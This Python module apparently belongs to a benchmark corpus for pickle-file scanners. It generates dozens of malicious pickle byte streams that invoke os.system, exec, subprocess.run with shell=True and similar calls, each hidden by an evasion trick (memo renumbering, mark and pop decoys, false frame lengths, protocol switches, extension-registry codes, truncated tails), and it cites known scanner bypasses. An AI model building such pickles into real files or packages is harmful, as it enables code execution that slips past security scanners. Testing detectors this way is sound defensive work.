"""Tricks on the machine itself: memo numbering, marks, frames, protocol numbers, argument opcodes, broken tails."""

from __future__ import annotations

import struct
from collections.abc import Iterator

from benchmarks.corpus.malicious.asm import (
    APPEND,
    BINPERSID,
    BUILD,
    DUP,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_SET,
    EMPTY_TUPLE,
    FROZENSET,
    MARK,
    MEMOIZE,
    NEWOBJ_EX,
    NEXT_BUFFER,
    NONE,
    OBJ,
    POP,
    POP_MARK,
    READONLY_BUFFER,
    REDUCE,
    SETITEM,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    TUPLE1,
    TUPLE2,
    C,
    S,
    bin_get,
    bin_put,
    bytearray8,
    bytes8,
    frame,
    get,
    global_,
    inst,
    int_,
    proto,
    put,
    short_unicode,
    stack_global,
    text_string,
)
from benchmarks.corpus.malicious.opcodes.trick import CALL, PLAIN, RUN, SYSTEM, Trick
from benchmarks.corpus.malicious.payloads import CODE, COMMAND

P4 = proto(4)
_OS, _NAME = short_unicode("os"), short_unicode("system")
_SAFE, _SAFE_NAME = short_unicode("collections"), short_unicode("OrderedDict")
EXEC = stack_global("builtins", "exec")


def _memo() -> Iterator[Trick]:
    gap = _SAFE + bin_put(7) + POP + _SAFE_NAME + bin_put(8) + POP + _OS + MEMOIZE + POP + _NAME + MEMOIZE + POP
    yield Trick(
        "memoize-counts-entries", "memo-numbering", P4 + gap + b"h\x02h\x03" + STACK_GLOBAL + RUN + STOP, source="picklescan#14"
    )
    overwrite = _SAFE + bin_put(1) + POP + _OS + MEMOIZE + POP + bin_get(1) + _NAME + STACK_GLOBAL
    yield Trick("memoize-overwrites-put", "memo-numbering", P4 + overwrite + RUN + STOP, source="picklescan#14")
    redefine = _SAFE + bin_put(0) + POP + _OS + bin_put(0) + POP + bin_get(0) + _NAME + STACK_GLOBAL
    yield Trick("put-redefined", "memo-redefinition", P4 + redefine + RUN + STOP)
    global_swap = global_("collections", "OrderedDict") + put(0) + POP + global_("os", "system") + put(0) + POP + get(0)
    yield Trick("global-slot-redefined", "memo-redefinition", global_swap + RUN + STOP)
    yield Trick("put-int-syntax", "memo-numbering", b"cos\nsystem\np 1_0\n0g10\n" + RUN + STOP)
    yield Trick("get-leading-zeros", "memo-numbering", b"cos\nsystem\np3\n0g0003\n" + RUN + STOP)
    args = MARK + text_string(COMMAND) + TUPLE + put(1) + POP + global_("os", "system") + get(1) + REDUCE
    yield Trick("arguments-from-memo", "memo-arguments", args + STOP)
    mutable = (
        EMPTY_LIST
        + put(0)
        + POP
        + get(0)
        + short_unicode(COMMAND)
        + APPEND
        + POP
        + stack_global("builtins", "map")
        + SYSTEM
        + get(0)
    )
    consumed = stack_global("builtins", "list") + put(5) + POP + get(5) + mutable + TUPLE2 + REDUCE + TUPLE1 + REDUCE
    yield Trick("list-filled-through-memo", "memo-arguments", P4 + consumed + STOP, "call:builtins:map")
    self_ref = EMPTY_DICT + MEMOIZE + short_unicode("f") + SYSTEM + SETITEM + short_unicode("self") + b"h\x00" + SETITEM + POP
    yield Trick("self-referring-dict", "memo-arguments", P4 + self_ref + CALL + STOP)


def _marks() -> Iterator[Trick]:
    yield Trick("popped-result", "pop-decoy", P4 + CALL + POP + int_(1) + STOP, source="fickling GHSA-mxhj (POP)")
    yield Trick("inside-pop-mark", "pop-mark-decoy", P4 + MARK + CALL + POP_MARK + EMPTY_DICT + STOP)
    yield Trick("mark-then-pop", "pop-mark-decoy", P4 + MARK + POP + CALL + STOP)
    yield Trick("callable-under-decoys", "pop-mark-decoy", P4 + SYSTEM + MARK + _SAFE + _SAFE_NAME + POP_MARK + RUN + STOP)
    yield Trick("nested-marks", "pop-mark-decoy", P4 + MARK + MARK + MARK + CALL + POP_MARK + POP_MARK + POP_MARK + NONE + STOP)
    yield Trick("dup-callable", "dup", P4 + SYSTEM + DUP + RUN + POP + RUN + STOP)
    yield Trick(
        "dup-arguments",
        "dup",
        P4 + short_unicode(COMMAND) + TUPLE1 + DUP + POP + bin_put(0) + POP + SYSTEM + bin_get(0) + REDUCE + STOP,
    )
    yield Trick("as-dict-key", "call-in-container", P4 + EMPTY_DICT + CALL + NONE + SETITEM + STOP)
    yield Trick("as-dict-value", "call-in-container", P4 + EMPTY_DICT + short_unicode("w") + CALL + SETITEM + STOP)
    yield Trick("as-set-member", "call-in-container", P4 + EMPTY_SET + MARK + CALL + b"\x90" + STOP)
    yield Trick("as-frozenset-member", "call-in-container", P4 + MARK + CALL + FROZENSET + STOP)
    yield Trick("as-persistent-id", "persistent-id", P4 + CALL + BINPERSID + STOP)
    yield Trick("text-persistent-id", "persistent-id", b"Pos.system\n0" + CALL + STOP)
    yield Trick(
        "persistent-id-as-callable",
        "persistent-id",
        P4 + short_unicode("os.system") + BINPERSID + RUN + STOP,
        "call:persistent:'os.system'()",
    )
    yield Trick(
        "inst-nested", "inst-obj", MARK + MARK + text_string(COMMAND) + inst("os", "system") + inst("builtins", "str") + STOP
    )
    yield Trick(
        "obj-callable-from-memo",
        "inst-obj",
        P4 + SYSTEM + bin_put(0) + POP + MARK + bin_get(0) + short_unicode(COMMAND) + OBJ + STOP,
    )
    yield Trick("obj-no-arguments", "inst-obj", P4 + MARK + stack_global("code", "interact") + OBJ + STOP, "call:code:interact")
    kwargs = (
        PLAIN.encode(S("functools:partial"))
        + PLAIN.encode((S("subprocess:run"),))
        + PLAIN.encode({"args": COMMAND, "shell": True})
        + NEWOBJ_EX
    )
    yield Trick("newobj-ex-keywords", "newobj-ex", P4 + kwargs + EMPTY_TUPLE + REDUCE + STOP, "call:functools:partial()")


def _frames() -> Iterator[Trick]:
    body = CALL + STOP
    yield Trick("frame-longer", "frame-lie", P4 + frame(body, len(body) + 64), source="engine: C and Python differ")
    yield Trick("frame-much-longer", "frame-lie", P4 + frame(body, 1 << 20))
    yield Trick("frame-zero", "frame-lie", P4 + frame(b"") + frame(b"") + body)
    yield Trick("frame-zero-length-before-call", "frame-lie", P4 + frame(CALL, 0) + STOP)
    yield Trick("frame-ends-after-call", "frame-lie", P4 + frame(CALL) + short_unicode("rest") + POP + STOP)
    yield Trick("frame-ends-in-opcode-later", "frame-lie", P4 + frame(CALL + b"\x8c", len(CALL) + 1) + b"\x04rest" + STOP)
    yield Trick("frame-inside-frame", "frame-lie", P4 + frame(CALL + frame(NONE + STOP)))
    yield Trick("frame-overlap", "frame-lie", P4 + frame(CALL + frame(NONE + STOP, 40), len(CALL) + 9))
    yield Trick("frame-in-protocol-2", "frame-lie", proto(2) + frame(body))
    yield Trick("frame-without-proto", "frame-lie", frame(body))
    yield Trick("frames-one-byte", "frame-lie", P4 + frame(NONE) + frame(POP) + frame(CALL) + frame(STOP))


def _protocols() -> Iterator[Trick]:
    yield Trick("proto-repeated", "proto-repeated", P4 + proto(4) + CALL + proto(2) + STOP)
    yield Trick("proto-late", "proto-repeated", b"N0" + CALL + proto(5) + STOP)
    yield Trick("proto-zero-then-stack-global", "proto-repeated", proto(0) + CALL + STOP)
    yield Trick(
        "proto-between-names", "proto-repeated", P4 + _OS + proto(1) + _NAME + proto(4) + STACK_GLOBAL + proto(3) + RUN + STOP
    )
    yield Trick(
        "no-proto-protocol-5-opcodes",
        "proto-repeated",
        EXEC + bytearray8(CODE.encode()) + TUPLE1 + REDUCE + STOP,
        "call:builtins:exec",
    )
    for name, push in (("bytearray8", bytearray8(CODE.encode())), ("binbytes8", bytes8(CODE.encode()))):
        yield Trick(f"argument-{name}", "argument-opcode", proto(5) + EXEC + push + TUPLE1 + REDUCE + STOP, "call:builtins:exec")
    for name, push in (("next-buffer", NEXT_BUFFER), ("readonly-buffer", NEXT_BUFFER + READONLY_BUFFER)):
        body = proto(5) + EXEC + push + TUPLE1 + REDUCE + STOP
        yield Trick(f"argument-{name}", "out-of-band-buffer", body, "call:builtins:exec", options={"buffers": 1})
    numbers = (
        b"\x8a\x00"
        + POP
        + b"\x8b\x00\x00\x00\x00"
        + POP
        + b"L-0L\n"
        + POP
        + b"I00\n"
        + POP
        + b"I-1_0\n"
        + POP
        + b"\x8a\x03\x00\x00\x00"
        + POP
    )
    yield Trick("number-oddities", "argument-opcode", P4 + numbers + CALL + STOP)
    yield Trick("float-oddities", "argument-opcode", b"Fnan\n0F 1_0.5\n0G" + struct.pack(">d", float("inf")) + POP + CALL + STOP)
    for width, code, number in ((1, b"\x82\xf1", 241), (2, b"\x83\xf1\xf1", 0xF1F1), (4, b"\x84\xf1\xf1\xf1\x11", 0x11F1F1F1)):
        extension = [["os", "system", number]]
        yield Trick(f"ext{width}", "extension-registry", proto(2) + code + RUN + STOP, options={"extensions": extension})
        register = PLAIN.encode(C("copyreg:add_extension", "os", "system", number)) + POP
        yield Trick(
            f"ext{width}-registered-in-stream",
            "extension-registry",
            proto(2) + register + code + RUN + STOP,
            options={"extensions": extension},
        )


def _tails() -> Iterator[Trick]:
    tails = {
        "truncated": b"",
        "no-stop": POP,
        "bad-opcode": b"\xff",
        "missing-memo": b"h\x63.",
        "underflow": POP * 4 + STOP,
        "half-string": b"X\xff\x00\x00\x00abc",
        "bad-utf8": b"\x8c\x02\xff\xfe.",
        "proto-6": proto(6) + STOP,
        "length-high-bit": b"\x8e" + b"\xff" * 8,
        "unicode8-high-bit": b"\x8d" + b"\x00" * 7 + b"\x80",
        "long4-negative": b"\x8b\xff\xff\xff\xff.",
        "unhashable-key": EMPTY_DICT + EMPTY_LIST + NONE + SETITEM + STOP,
        "append-to-none": NONE + NONE + APPEND + STOP,
        "build-none": NONE + NONE + BUILD + STOP,
        "reduce-non-tuple": SYSTEM + NONE + REDUCE + STOP,
        "ext-unregistered": b"\x82\x07.",
        "put-negative": b"p-1\n.",
        "bad-int": b"Ix\n.",
        "unclosed-mark": MARK + STOP,
        "pop-mark-without-mark": POP_MARK + STOP,
        "frame-past-end": frame(b"", 1 << 40),
        "empty-module-global": b"c\nsystem\n.",
        "stray-next-buffer": NEXT_BUFFER + STOP,
        "text-after": b"# end of file\n",
    }
    for name, tail in tails.items():
        source = (
            "nullifAI (ReversingLabs 2025-02)"
            if name in {"truncated", "bad-opcode", "no-stop"}
            else "picklescan keyerror"
            if name == "missing-memo"
            else "own"
        )
        yield Trick(f"tail-{name}", "broken-tail", P4 + CALL + tail, source=source)
    yield Trick(
        "tail-truncated-protocol-0",
        "broken-tail",
        b"cos\nsystem\n(S'echo toadstone-inert'\ntR",
        source="nullifAI (ReversingLabs 2025-02)",
    )
    confused = P4 + CALL + POP + int_(42) + MEMOIZE + _OS + MEMOIZE + b"h\x00h\x01" + STACK_GLOBAL + STOP
    yield Trick("tail-type-confusion", "broken-tail", confused, source="picklescan type-confusion")


def tricks() -> Iterator[Trick]:
    """All tricks of this module."""
    yield from _memo()
    yield from _marks()
    yield from _frames()
    yield from _protocols()
    yield from _tails()
